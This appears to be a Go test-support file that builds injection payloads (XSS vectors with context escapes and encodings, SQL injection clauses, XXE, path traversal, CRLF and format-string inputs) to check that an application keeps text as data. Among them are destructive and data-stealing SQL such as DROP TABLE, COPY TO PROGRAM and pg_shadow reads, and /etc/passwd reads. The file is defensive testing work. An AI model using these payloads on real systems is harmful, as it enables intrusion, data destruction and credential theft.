// Package payloads makes what attackers send to shops: texts that become SQL, HTML or script where a
// program forgets that they are data. None of them does harm: the scripts set a global variable that
// is called Canary and open a dialog.
package payloads

import (
	"encoding/hex"
	"net/url"
	"strings"
)

// Canary is the global variable that a script sets which ran although it is only text.
const Canary = "canary"

// run is what a script does that came through.
const run = Canary + "=1;alert(1)"

// ways out of where a page puts a text: between tags, in an attribute with each kind of quotes, in
// elements that end only at their own tag, in comments and scripts.
var ways = []string{
	"", `">`, `'>`, "` >", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>",
	"</svg></text>", "</option></select>", "</noscript>", `"></a>`, `\"'>`,
}

// elements run a script, or load something from elsewhere, once they are a part of a page.
var elements = []string{
	"<script>" + run + "</script>",
	"<ScRiPt >" + run + "</ScRiPt\t>",
	"<script/x>" + run + "</script>",
	"<script src=//books.invalid/a.js></script>",
	"<img src=x onerror=" + run + ">",
	`<img src="x" onerror="` + run + `" alt="">`,
	"<img/src=`x`/onerror=" + run + ">",
	"<svg onload=" + run + ">",
	"<svg><script>" + run + "</script></svg>",
	"<svg><animate onbegin=" + run + " attributeName=x dur=1s>",
	"<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg onload=" + run + ">#a'/></svg>",
	"<math><mtext><table><mglyph><style><img src onerror=" + run + ">",
	"<details open ontoggle=" + run + ">x</details>",
	"<input autofocus onfocus=" + run + ">",
	"<select autofocus onfocus=" + run + "></select>",
	"<x tabindex=1 autofocus onfocus=" + run + ">x</x>",
	"<video><source onerror=" + run + "></video>",
	"<audio src=x onerror=" + run + "></audio>",
	"<body onload=" + run + ">",
	"<marquee onstart=" + run + ">x</marquee>",
	"<iframe src='javascript:parent." + run + "'></iframe>",
	`<iframe srcdoc="<script>parent.` + run + `</script>"></iframe>`,
	"<object data='javascript:" + run + "'></object>",
	"<embed src='data:text/html,<script>" + run + "</script>'>",
	"<meta http-equiv=refresh content='0;url=javascript:" + run + "'>",
	"<link rel=stylesheet href=//books.invalid/a.css>",
	"<style>@import '//books.invalid/a.css';</style>",
	"<base href=//books.invalid/>",
	"<form action=//books.invalid/><input name=q><button autofocus>x</button></form>",
	"<a href=javascript:" + run + ">x</a>",
	"<a href='jav&#x09;ascript:" + run + "'>x</a>",
}

// texts are dangerous in a place of their own: in an attribute, an address, a template, a script,
// and where something is decoded twice.
var texts = []string{
	`" autofocus onfocus=` + run + ` x="`,
	`' autofocus onfocus=` + run + ` x='`,
	"x autofocus onfocus=" + run,
	`" style="background:url(//books.invalid/a)" x="`,
	"javascript:" + run,
	"JaVaScRiPt:" + run,
	"java\tscript:" + run,
	"\x01javascript:" + run,
	"data:text/html,<script>" + run + "</script>",
	"vbscript:" + run,
	"//books.invalid/",
	"/\\books.invalid/",
	"https://books.invalid/",
	`"});` + run + `;//`,
	`';` + run + `;//`,
	`\";` + run + `;//`,
	"`+" + run + "+`",
	"${" + run + "}",
	"{{" + run + "}}",
	"{{constructor.constructor('" + run + "')()}}",
	"{{.}}{{printf `%s` .}}",
	"<%= " + run + " %>",
	"#{" + run + "}",
	"{ children... }",
	"<!--<script>",
	"<!--",
	"<![CDATA[<script>" + run + "</script>]]>",
	"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
	"\u2028" + run + "\u2029",
	`\u003cscript\u003e` + run + `\u003c/script\u003e`,
	"&lt;script&gt;" + run + "&lt;/script&gt;",
	"&#60;script&#62;" + run + "&#60;/script&#62;",
	"%3Cscript%3E" + run + "%3C/script%3E",
	"%253Cscript%253E" + run,
	"+ADw-script+AD4-" + run + "+ADw-/script+AD4-",
	"\uff1cscript\uff1e" + run + "\uff1c/script\uff1e",
	"<scr\u200bipt>" + run + "</script>",
	"<scr<script>ipt>" + run + "</scr</script>ipt>",
	"expression(" + run + ")",
	"url(javascript:" + run + ")",
	"x\r\nSet-Cookie: reader=1",
	"x\r\n\r\n<script>" + run + "</script>",
	"../../../../etc/passwd",
	"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
	"\u202etxt.exe",
	"%s%s%n%x%d",
	"%00<script>" + run + "</script>",
	"A<b",
	"a&copy;b&ampc",
	"'\"<>&`",
}

// HTML returns texts that must stay texts on a page.
func HTML() []string {
	var all []string
	for _, element := range elements {
		for _, way := range ways {
			all = append(all, way+element)
		}
	}
	return append(all, texts...)
}

// ends are ways out of where a statement puts a text.
var ends = []string{"", "'", "\"", "`", "')", "'))", "\")", "%'", "\\'", "'::text"}

// clauses change what a statement does.
var clauses = []string{
	" OR 1=1",
	" OR 'a'='a",
	" AND 1=2",
	" AND (SELECT count(*) FROM books)>0",
	" UNION SELECT NULL,NULL,NULL",
	" UNION ALL SELECT name,sql,1 FROM sqlite_master",
	" UNION SELECT usename,passwd,1 FROM pg_shadow",
	"; DROP TABLE books",
	"; DELETE FROM activity",
	"; UPDATE books SET title='x'",
	"; INSERT INTO books(id,title) VALUES(1,'x')",
	"; ATTACH DATABASE '/tmp/x.db' AS x",
	"; PRAGMA writable_schema=ON",
	"; COPY books TO PROGRAM 'id'",
	"; SELECT pg_sleep(10)",
	" AND 1=randomblob(900000000)",
	" AND load_extension('x')",
	"||(SELECT version())||",
	" ORDER BY 99",
	" LIMIT 1 OFFSET -1",
	" MATCH '*'",
	" GLOB '*'",
}

// rests make what follows in the statement a comment, or complete it.
var rests = []string{" --", " /*"}

// searches are what the languages of full-text searches are made of, and other texts that mean
// something to a database.
var searches = []string{
	"*", "a*", "^a", "a AND", "AND", "NOT", "a NEAR b", "NEAR(a b, 5)", "title:a", "{title author}: a", "a + b", `"`, `"a`, "(((", ")",
	"a:*", "a & b", "a | b", "!a", "a <-> b", "!!", ":*", "%", "_", "%%%%", "[a-z]", "\\", "NULL", "null", "0x41", "1e309", "NaN",
	"-1", "9223372036854775808", "$1", "?1", ":name", "@name", "1/0", "\x00", "a\x00b", "\xff\xfe",
}

// SQL returns texts that must stay texts in a statement.
func SQL() []string {
	var all []string
	for _, end := range ends {
		for _, clause := range clauses {
			for _, rest := range rests {
				all = append(all, "1"+end+clause+rest)
			}
		}
	}
	all = append(all, searches...)
	for _, encode := range []func(string) string{url.QueryEscape, fullWidth, hexed} {
		all = append(all, encode("' OR 1=1 --"), encode("; DROP TABLE books --"))
	}
	return all
}

// fullWidth writes a text with letters that some databases and programs take for ASCII.
func fullWidth(s string) string {
	return strings.Map(func(r rune) rune {
		if r > ' ' && r <= '~' {
			return r + 0xfee0
		}
		return r
	}, s)
}

func hexed(s string) string { return "0x" + hex.EncodeToString([]byte(s)) }
